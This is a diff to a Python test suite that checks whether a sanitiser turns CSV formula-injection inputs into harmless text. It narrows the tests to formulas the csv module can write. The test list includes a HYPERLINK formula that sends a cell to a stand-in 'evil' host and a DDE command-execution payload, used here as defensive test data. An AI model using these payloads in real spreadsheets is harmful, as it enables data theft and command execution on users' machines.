@@ -8,6 +8,7 @@ import io
 import json
 import pickle
 import re
+import sys
 import tracemalloc
 from pathlib import Path
 
@@ -246,6 +247,8 @@ FORMULAS = [
     '=HYPERLINK("//evil/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", '"=1"', "＝1+1",
     "a;=1", "a\n=1", "a\t@x", "-", "\0=1",
 ]  # fmt: skip
+#: Those that Python's csv can write and read.
+WRITABLE = [formula for formula in FORMULAS if "\0" not in formula or sys.version_info >= (3, 11)]
 
 
 def formulas(text):
@@ -264,7 +267,7 @@ def is_number(cell):
 
 
 def test_the_check_finds_formulas():
-    for formula in FORMULAS:
+    for formula in WRITABLE:
         out = io.StringIO()
         csv.writer(out).writerow(["a", formula])
         assert formulas(out.getvalue()), formula
@@ -275,7 +278,7 @@ def test_formulas_become_text_and_everything_else_stays(formula):
     out = io.StringIO()
     csv.writer(out).writerow(["a", harmless(formula), harmless(f"x{formula}")])
     assert not formulas(out.getvalue())
-    assert harmless(formula).replace("'", "") == formula.replace("'", "")
+    assert harmless(formula).replace("'", "") == formula.replace("'", "").replace("\0", "")
     assert harmless(harmless(formula)) == harmless(formula)
 
 
@@ -293,7 +296,7 @@ def test_tables_hold_no_formulas():
 
 def test_plans_and_judgements_of_hostile_people_hold_no_formulas(run, folder):  # noqa: F811
     def change(frame):
-        frame["name"] = [FORMULAS[i % len(FORMULAS)].strip() or "-" for i in range(len(frame))]
+        frame["name"] = [WRITABLE[i % len(WRITABLE)].strip() or "-" for i in range(len(frame))]
         frame.loc[3, "income"], frame.loc[4, "home"] = "=1+1", "@SUM(A1)"
 
     name = changed(folder, "formulas.csv", change)
@@ -303,7 +306,7 @@ def test_plans_and_judgements_of_hostile_people_hold_no_formulas(run, folder):  
     assert len([*csv.DictReader(io.StringIO(done.out))]) >= 40
 
     def names_only(frame):
-        frame["name"] = [FORMULAS[i % len(FORMULAS)].strip() or "-" for i in range(len(frame))]
+        frame["name"] = [WRITABLE[i % len(WRITABLE)].strip() or "-" for i in range(len(frame))]
 
     name = changed(folder, "formulas.csv", names_only)
     words = ["--policy", "policy", "--people", name, "--id", "name", "--samples", "20", "--per-person", "judged.csv"]
